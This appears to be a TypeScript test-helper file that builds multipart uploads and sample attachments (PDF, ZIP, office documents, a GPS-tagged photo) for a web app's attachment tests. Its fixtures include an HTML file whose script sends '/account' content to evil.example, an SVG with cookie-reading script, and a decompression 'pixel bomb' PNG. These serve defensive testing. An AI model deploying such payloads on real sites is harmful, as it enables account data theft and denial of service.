// Test files of every kind (made here, small and real: sharp for images, a tiny zip writer for
// the ODF and OOXML containers) and multipart posts through app.inject with an agent's cookies.
import { randomBytes } from 'node:crypto'
import { crc32, deflateRawSync } from 'node:zlib'
import type { FastifyInstance, LightMyRequestResponse } from 'fastify'
import sharp from 'sharp'
import type { Db } from '../../src/db/database.ts'
import { attachToPost, insertPending } from '../../src/features/attachments/attachments.repository.ts'
import { PostgresBlobStore } from '../../src/features/attachments/blob-store.ts'
import type { Agent } from '../helpers/agent.ts'

export interface FilePart {
  field?: string
  filename: string
  type?: string
  content: Buffer
}

export type FieldPart = [name: string, value: string]

/** A multipart/form-data body: fields and files in the given order. */
export function multipartBody(parts: readonly (FieldPart | FilePart)[]): {
  payload: Buffer
  contentType: string
} {
  const boundary = `----vr${randomBytes(8).toString('hex')}`
  const chunks: Buffer[] = []
  for (const part of parts) {
    if (Array.isArray(part)) {
      const [name, value] = part
      chunks.push(
        Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`),
      )
    } else {
      const header =
        `--${boundary}\r\nContent-Disposition: form-data; name="${part.field ?? 'files'}"; filename="${part.filename.replace(/"/g, '%22')}"\r\n` +
        `Content-Type: ${part.type ?? 'application/octet-stream'}\r\n\r\n`
      chunks.push(Buffer.from(header), part.content, Buffer.from('\r\n'))
    }
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`))
  return { payload: Buffer.concat(chunks), contentType: `multipart/form-data; boundary=${boundary}` }
}

function cookieHeader(agent: Agent): string {
  return [...agent.cookies].map(([k, v]) => `${k}=${v}`).join('; ')
}

/** POSTs a multipart form as the agent (its cookies; the token is the caller's part). */
export async function postMultipart(
  app: FastifyInstance,
  agent: Agent,
  url: string,
  parts: readonly (FieldPart | FilePart)[],
  headers: Record<string, string> = {},
): Promise<LightMyRequestResponse> {
  const { payload, contentType } = multipartBody(parts)
  return app.inject({
    method: 'POST',
    url,
    payload,
    headers: { cookie: cookieHeader(agent), 'content-type': contentType, ...headers },
  })
}

/** GET with the agent's cookies and extra headers (Range). */
export async function getAs(
  app: FastifyInstance,
  agent: Agent,
  url: string,
  headers: Record<string, string> = {},
): Promise<LightMyRequestResponse> {
  return app.inject({ method: 'GET', url, headers: { cookie: cookieHeader(agent), ...headers } })
}

// ---------------------------------------------------------------------------------------------
// Files

/** A small but well-formed PDF (with enough bytes to span several ranges). */
export function pdfFile(extraBytes = 0): Buffer {
  const body =
    '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n' +
    '3 0 obj<</Type/Page/MediaBox[0 0 595 842]/Parent 2 0 R>>endobj\n'
  const padding = extraBytes > 0 ? `%${'x'.repeat(extraBytes)}\n` : ''
  return Buffer.from(`${body}${padding}trailer<</Root 1 0 R>>\n%%EOF\n`)
}

interface ZipEntry {
  name: string
  data: Buffer
  /** Stored (no compression), as ODF requires for its "mimetype" entry. */
  stored?: boolean
}

/** A zip archive (local headers, central directory), enough for file-type and office programs. */
export function zipFile(entries: readonly ZipEntry[]): Buffer {
  const locals: Buffer[] = []
  const centrals: Buffer[] = []
  let offset = 0
  for (const entry of entries) {
    const name = Buffer.from(entry.name)
    const compressed = entry.stored ? entry.data : deflateRawSync(entry.data)
    const crc = crc32(entry.data)
    const local = Buffer.alloc(30)
    local.writeUInt32LE(0x04034b50, 0)
    local.writeUInt16LE(20, 4)
    local.writeUInt16LE(entry.stored ? 0 : 8, 8)
    local.writeUInt32LE(crc, 14)
    local.writeUInt32LE(compressed.length, 18)
    local.writeUInt32LE(entry.data.length, 22)
    local.writeUInt16LE(name.length, 26)
    locals.push(local, name, compressed)
    const central = Buffer.alloc(46)
    central.writeUInt32LE(0x02014b50, 0)
    central.writeUInt16LE(20, 4)
    central.writeUInt16LE(20, 6)
    central.writeUInt16LE(entry.stored ? 0 : 8, 10)
    central.writeUInt32LE(crc, 16)
    central.writeUInt32LE(compressed.length, 20)
    central.writeUInt32LE(entry.data.length, 24)
    central.writeUInt16LE(name.length, 28)
    central.writeUInt32LE(offset, 42)
    centrals.push(central, name)
    offset += local.length + name.length + compressed.length
  }
  const directory = Buffer.concat(centrals)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(entries.length, 8)
  end.writeUInt16LE(entries.length, 10)
  end.writeUInt32LE(directory.length, 12)
  end.writeUInt32LE(offset, 16)
  return Buffer.concat([...locals, directory, end])
}

export function odfFile(kind: 'text' | 'spreadsheet' | 'presentation'): Buffer {
  return zipFile([
    { name: 'mimetype', data: Buffer.from(`application/vnd.oasis.opendocument.${kind}`), stored: true },
    { name: 'content.xml', data: Buffer.from('<?xml version="1.0"?><office:document-content/>') },
    { name: 'META-INF/manifest.xml', data: Buffer.from('<?xml version="1.0"?><manifest:manifest/>') },
  ])
}

const ooxmlParts = {
  docx: { folder: 'word', main: 'document', type: 'wordprocessingml.document.main+xml' },
  xlsx: { folder: 'xl', main: 'workbook', type: 'spreadsheetml.sheet.main+xml' },
  pptx: { folder: 'ppt', main: 'presentation', type: 'presentationml.presentation.main+xml' },
} as const

export function ooxmlFile(kind: keyof typeof ooxmlParts): Buffer {
  const part = ooxmlParts[kind]
  const contentTypes =
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
    '<Default Extension="xml" ContentType="application/xml"/>' +
    `<Override PartName="/${part.folder}/${part.main}.xml" ContentType="application/vnd.openxmlformats-officedocument.${part.type}"/></Types>`
  return zipFile([
    { name: '[Content_Types].xml', data: Buffer.from(contentTypes) },
    { name: '_rels/.rels', data: Buffer.from('<?xml version="1.0"?><Relationships/>') },
    { name: `${part.folder}/${part.main}.xml`, data: Buffer.from('<?xml version="1.0"?><document/>') },
  ])
}

/** A photo with EXIF metadata: camera, and a GPS position (a town hall's). */
export async function photoWithGps(
  format: 'jpeg' | 'png' | 'webp' = 'jpeg',
  width = 640,
  height = 480,
): Promise<Buffer> {
  const image = sharp({
    create: { width, height, channels: 3, background: { r: 40, g: 120, b: 200 } },
  }).withExif({
    IFD0: { Make: 'Stadtkamera', Model: 'Rathaus 3000', ImageDescription: 'Ratssaal Musterstadt' },
    IFD3: {
      GPSLatitudeRef: 'N',
      GPSLatitude: '52/1 31/1 12/1',
      GPSLongitudeRef: 'E',
      GPSLongitude: '13/1 24/1 36/1',
    },
  })
  return image.toFormat(format).toBuffer()
}

/** A PNG whose header claims a huge size with almost no data (a decompression "pixel bomb"). */
export async function pixelBombPng(): Promise<Buffer> {
  const png = await sharp({ create: { width: 1, height: 1, channels: 3, background: '#fff' } })
    .png()
    .toBuffer()
  const bomb = Buffer.from(png)
  // IHDR starts at byte 8: length (4), "IHDR" (4), width (4), height (4) ... CRC after 13 data bytes.
  bomb.writeUInt32BE(30_000, 16)
  bomb.writeUInt32BE(30_000, 20)
  bomb.writeUInt32BE(crc32(bomb.subarray(12, 29)), 29)
  return bomb
}

export const htmlFile = Buffer.from(
  '<!doctype html><html><body><script>fetch("/account").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example/",t))</script></body></html>\n',
)
export const svgWithScript = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><script>alert(1)</script></svg>\n',
)
export const csvFile = Buffer.from('Gemeinde;Einwohner\nMusterstadt;12345\nBeispieldorf;678\n')
export const textFile = Buffer.from('Protokoll der Sitzung\n\nÄnderungen übernommen.\n')

/**
 * A file on a post, stored the way an upload stores it (for tests elsewhere, e.g. the leak
 * crawl): a text file, or an image with its thumbnail when `image` is given.
 */
export async function attachFileToPost(
  db: Db,
  post: { id: number; authorId: number },
  file: { name: string; content: Buffer; mediaType: string; image?: boolean },
): Promise<number> {
  const store = new PostgresBlobStore(db)
  const stored = await store.put([file.content])
  const thumbnail = file.image
    ? await store.put([await sharp(file.content).resize(120).webp().toBuffer()])
    : undefined
  const id = await insertPending(db, {
    uploaderId: post.authorId,
    key: stored.key,
    thumbnailKey: thumbnail?.key ?? null,
    name: file.name,
    mediaType: file.mediaType,
    size: stored.size,
    width: file.image ? 640 : null,
    height: file.image ? 480 : null,
  })
  await attachToPost(db, post.authorId, post.id, [id])
  return id
}
